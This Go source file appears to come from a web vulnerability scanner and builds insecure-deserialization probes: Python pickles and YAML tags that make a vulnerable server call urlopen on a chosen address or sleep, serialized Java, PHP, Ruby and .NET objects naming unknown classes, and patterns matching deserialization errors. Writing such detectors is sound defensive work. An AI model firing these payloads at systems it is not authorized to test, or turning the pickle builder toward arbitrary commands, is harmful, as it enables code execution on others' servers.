package injection

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/url"
	"strings"

	"github.com/pavise-dev/pavise/check/internal/lazy"
)

// A language is one whose objects are written to bytes and read back.
type language int

const (
	python language = iota
	yaml            // of Python
	java
	php
	ruby
	dotnet
)

func (l language) String() string {
	return [...]string{"a pickle of Python", "YAML", "an object of Java", "a value of PHP", "an object of Ruby", "an object of .NET"}[l]
}

// pickle is a call of a function with one argument, in protocol 4: what pickles
// of today are. Its arguments are opcodes.
func pickle(module, function, argument string) string {
	body := short(module) + "\x94" + short(function) + "\x94\x93\x94" + argument + "\x85\x94R\x94."
	return "\x80\x04\x95" + string(binary.LittleEndian.AppendUint64(nil, uint64(len(body)))) + body
}

// short is a text as an opcode.
func short(s string) string { return "\x8c" + string([]byte{byte(len(s))}) + s }

// asks makes who reads the object ask for an address, and nothing else; empty
// where the language has no such call without code of others.
func (l language) asks(address string) string {
	switch l {
	case python:
		return pickle("urllib.request", "urlopen", short(address))
	case yaml:
		return fmt.Sprintf("pv: !!python/object/apply:urllib.request.urlopen [%q]\n", address)
	}
	return ""
}

// sleeps makes who reads the object wait.
func (l language) sleeps(seconds int) string {
	switch l {
	case python:
		return pickle("time", "sleep", "K"+string([]byte{byte(seconds)}))
	case yaml:
		return fmt.Sprintf("pv: !!python/object/apply:time.sleep [%d]\n", seconds)
	}
	return ""
}

// named is an object of a class of a name that nobody has; where a class can
// be read from no answer, it is one that ends in the middle.
func (l language) named(class string) string {
	switch l {
	case python:
		return "\x80\x04\x95\x30\x00\x00\x00\x00\x00\x00\x00" + short(class)
	case java:
		// TC_OBJECT, TC_CLASSDESC, name, serialVersionUID, SC_SERIALIZABLE, no
		// fields, TC_ENDBLOCKDATA, no superclass.
		return "\xac\xed\x00\x05\x73\x72\x00" + string([]byte{byte(len(class))}) + class + "\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00\x78\x70"
	case php:
		return fmt.Sprintf(`O:%d:"%s":1:{s:1:"a";`, len(class), class)
	case ruby:
		class = strings.ToUpper(class[:1]) + class[1:]
		return "\x04\x08o:" + string([]byte{byte(len(class) + 5)}) + class + "\x00"
	case dotnet:
		return "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00" + string([]byte{byte(len(class))}) + class
	}
	return ""
}

// What is said of objects that cannot be read.
var readers = map[language][]sign{
	python: {{"pickle", lazy.Regexp(`UnpicklingError|pickle data was truncated|pickle exhausted|unpickling stack underflow|invalid load key|Ran out of input`)}},
	java:   {{"ObjectInputStream", lazy.Regexp(`java\.io\.(?:StreamCorrupted|InvalidClass|OptionalData|NotSerializable|EOF)Exception|ClassNotFoundException|invalid stream header|ObjectInputStream`)}},
	php:    {{"unserialize", lazy.Regexp(`unserialize\(\): |__PHP_Incomplete_Class`)}},
	ruby:   {{"Marshal", lazy.Regexp(`undefined class/module|marshal data too short|incompatible marshal file format|dump format error`)}},
	dotnet: {{"BinaryFormatter", lazy.Regexp(`SerializationException|BinaryFormatter|Unable to (?:find assembly|load type)|End of Stream encountered before parsing`)}},
}

// lookedFor is what says that a class of a name that the request chose was
// looked for.
var lookedFor = lazy.Regexp(`(?i)(?:ClassNotFoundException:? ?|undefined class/module |cannot be found: ?)(pv[a-z2-7]{7})`)

// written tells in which language's form a text is, and whether in base64.
func written(text string) (l language, encoded, ok bool) {
	if s, err := url.QueryUnescape(text); err == nil && strings.Contains(text, "%") {
		text = s
	}
	text = strings.Trim(text, `"`)
	if phpValue().MatchString(text) {
		return php, false, true
	}
	if len(text) < 8 {
		return 0, false, false
	}
	data, err := base64.RawStdEncoding.DecodeString(strings.NewReplacer("-", "+", "_", "/").Replace(strings.TrimRight(text, "=")))
	if err != nil {
		return 0, false, false
	}
	raw := string(data)
	switch {
	case strings.HasPrefix(raw, "\xac\xed\x00\x05"):
		return java, true, true
	case strings.HasPrefix(raw, "\x00\x01\x00\x00\x00\xff\xff\xff\xff"):
		return dotnet, true, true
	case len(raw) > 3 && raw[:2] == "\x04\x08" && strings.ContainsRune(`{[oI":e`, rune(raw[2])):
		return ruby, true, true
	case phpValue().MatchString(raw):
		return php, true, true
	case strings.HasSuffix(raw, ".") && (raw[0] == '\x80' && raw[1] >= 2 && raw[1] <= 5 || strings.HasPrefix(raw, "(dp") || strings.HasPrefix(raw, "(lp") || strings.HasPrefix(raw, "ccopy")):
		return python, true, true
	}
	return 0, false, false
}

var phpValue = lazy.Regexp(`^(?:O:\d{1,3}:"[\w\\]+":\d+:\{|a:\d+:\{[isa]:).*\}$`)
